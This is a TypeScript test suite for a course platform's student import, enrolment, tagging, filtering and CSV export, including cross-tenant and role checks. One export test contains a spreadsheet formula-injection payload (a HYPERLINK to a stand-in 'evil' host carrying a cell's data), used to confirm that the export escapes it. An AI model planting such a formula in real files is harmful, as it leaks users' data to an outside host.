import { and, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { getDb } from "@/db/client";
import { findActiveEnrollment } from "@/db/queries/enrollments";
import { listStudents } from "@/db/queries/students";
import { courses, creators, lessonProgress, lessons, students, user } from "@/db/schema";
import { systemScope, type TenantScope } from "@/db/scope";
import { studentsToCsv } from "@/lib/commerce/student-csv";
import { seedDemo } from "@/lib/demo/seed";
import { signIn } from "../../../test/helpers";

let requestHeaders = new Headers();
vi.mock("next/headers", () => ({ headers: async () => requestHeaders, cookies: async () => ({ get: () => undefined, getAll: () => [], set: () => {} }) }));
const { importStudentsAction } = await import("./import-students");
const { enrollStudentAction } = await import("./enroll-student");
const { unenrollStudentAction } = await import("./unenroll-student");
const { setStudentTagsAction } = await import("./set-student-tags");

const APP = "app.localhost:3000";
async function as(email: string) {
  requestHeaders = new Headers({ host: APP, cookie: await signIn(APP, email) });
}
let acme: TenantScope;
let courseIds: Record<string, string> = {};

beforeAll(async () => {
  await seedDemo();
  const db = await getDb();
  const [c] = await db.select().from(creators).where(eq(creators.slug, "acme"));
  acme = systemScope(c!.id);
  courseIds = Object.fromEntries((await db.select().from(courses).where(eq(courses.creatorId, c!.id))).map((x) => [x.slug, x.id]));
});

const CSV = [
  "Email,Name,Courses,Tags",
  "ada@import.test,Ada Lovelace,watercolor-foundations;sketching-for-beginners,VIP;cohort-1",
  '"grace@import.test","Hopper, Grace",sketching-for-beginners,cohort-1',
  "not-an-email,Bad Row,,",
  "ada@import.test,Ada Again,,",
  "linus@import.test,Linus,no-such-course,",
  "student@acme.test,Sam,sketching-for-beginners,returning",
].join("\r\n");

describe("students: import, enrol, tag, filter, export", () => {
  it("a dry run previews each row and writes nothing; the import writes every valid row, once", async () => {
    await as("owner@acme.test");
    const dry = await importStudentsAction({ org: "acme", csv: CSV, dryRun: true });
    if (!dry.ok) throw new Error(dry.message);
    expect(dry.data.outcomes.map((o) => [o.line, o.action, o.error ? o.error.split(":")[0] : null])).toEqual([
      [2, "new_student", null],
      [3, "new_student", null],
      [4, "error", "email"],
      [5, "error", "email"],
      [6, "error", "courses"],
      [7, "existing_student", null],
    ]);
    const db = await getDb();
    expect(await db.select().from(user).where(eq(user.email, "ada@import.test"))).toHaveLength(0);

    const done = await importStudentsAction({ org: "acme", csv: CSV, dryRun: false });
    expect(done).toMatchObject({ ok: true, data: { imported: 3 } });
    const [ada] = await db.select().from(user).where(eq(user.email, "ada@import.test"));
    expect(ada).toMatchObject({ name: "Ada Lovelace", emailVerified: false });
    expect(await findActiveEnrollment(acme, { userId: ada!.id, courseId: courseIds["sketching-for-beginners"]! })).not.toBeNull();
    const [grace] = await db
      .select({ name: user.name, tags: students.tags })
      .from(students)
      .innerJoin(user, eq(user.id, students.userId))
      .where(and(eq(students.creatorId, acme.creatorId), eq(user.email, "grace@import.test")));
    expect(grace).toEqual({ name: "Hopper, Grace", tags: ["cohort-1"] });
    // Again: nothing new (no second account, student or enrolment).
    expect(await importStudentsAction({ org: "acme", csv: CSV, dryRun: false })).toMatchObject({ ok: true, data: { imported: 3 } });
    expect(await db.select().from(user).where(eq(user.email, "ada@import.test"))).toHaveLength(1);
    expect((await listStudents(acme, { q: "ada@import" })).map((s) => s.email)).toEqual(["ada@import.test"]);
  });

  it("refuses a file without an email column, or too big, with a clear message", async () => {
    await as("owner@acme.test");
    expect(await importStudentsAction({ org: "acme", csv: "name\nAda", dryRun: true })).toMatchObject({
      ok: false,
      code: "invalid",
      message: expect.stringMatching(/email/),
    });
    expect(await importStudentsAction({ org: "acme", csv: "x".repeat(1_000_001), dryRun: true })).toMatchObject({ ok: false, code: "invalid" });
  });

  it("filters by course, tag, progress and search; the export escapes formulas", async () => {
    const db = await getDb();
    const [ada] = await db.select().from(user).where(eq(user.email, "ada@import.test"));
    const [first] = await db
      .select()
      .from(lessons)
      .where(and(eq(lessons.creatorId, acme.creatorId), eq(lessons.courseId, courseIds["watercolor-foundations"]!), eq(lessons.status, "published")))
      .limit(1);
    await db
      .insert(lessonProgress)
      .values({ creatorId: acme.creatorId, userId: ada!.id, courseId: first!.courseId, lessonId: first!.id, completedAt: new Date() });
    const emails = async (f: Parameters<typeof listStudents>[1]) => (await listStudents(acme, f)).map((s) => s.email).sort();
    expect(await emails({ tag: "vip" })).toEqual(["ada@import.test"]);
    expect(await emails({ courseId: courseIds["watercolor-foundations"]!, progress: "in_progress" })).toEqual(["ada@import.test"]);
    expect(await emails({ tag: "cohort-1", progress: "not_started" })).toEqual(["grace@import.test"]);
    const [row] = await listStudents(acme, { q: "ada@import" });
    expect(row!.progress).toBeGreaterThan(0);
    // Papa Parse's own escaping misses a formula with a line break later in it; ours does not.
    const csv = studentsToCsv([{ ...row!, name: '=HYPERLINK("http://evil/?d="&A2,"Open")\n&""' }]);
    expect(csv).toContain(`"'=HYPERLINK`);
    expect(csv).not.toMatch(/,"?=HYPERLINK/);
  });

  it("owners enrol and remove by hand; editors tag but cannot enrol or import; another school gets not found", async () => {
    const [ada] = await listStudents(acme, { q: "ada@import" });
    const course = courseIds["advanced-composition"] ?? courseIds["watercolor-foundations"]!;
    await as("owner@acme.test");
    expect(await unenrollStudentAction({ org: "acme", studentId: ada!.id, courseId: courseIds["watercolor-foundations"]! })).toMatchObject({ ok: true });
    expect(await findActiveEnrollment(acme, { userId: ada!.userId, courseId: courseIds["watercolor-foundations"]! })).toBeNull();
    expect(await enrollStudentAction({ org: "acme", studentId: ada!.id, courseId: course })).toMatchObject({ ok: true, data: { enrolled: true } });
    await as("editor@acme.test");
    expect(await setStudentTagsAction({ org: "acme", studentId: ada!.id, tags: ["VIP", " vip ", "Alumni"] })).toEqual({
      ok: true,
      data: { tags: ["vip", "alumni"] },
    });
    expect(await enrollStudentAction({ org: "acme", studentId: ada!.id, courseId: course })).toMatchObject({ ok: false, code: "forbidden" });
    expect(await importStudentsAction({ org: "acme", csv: CSV, dryRun: true })).toMatchObject({ ok: false, code: "forbidden" });
    await as("owner@beta.test");
    expect(await enrollStudentAction({ org: "beta", studentId: ada!.id, courseId: course })).toMatchObject({ ok: false, code: "not_found" });
    expect(await setStudentTagsAction({ org: "beta", studentId: ada!.id, tags: ["x"] })).toMatchObject({ ok: false, code: "not_found" });
    // Beta's owner naming one of Beta's students but an Acme course: the course is not found there.
    const db = await getDb();
    const [betaStudent] = await db
      .select({ id: students.id })
      .from(students)
      .innerJoin(creators, eq(creators.id, students.creatorId))
      .where(eq(creators.slug, "beta"))
      .limit(1);
    if (betaStudent)
      expect(await enrollStudentAction({ org: "beta", studentId: betaStudent.id, courseId: course })).toMatchObject({ ok: false, code: "not_found" });
  });
});
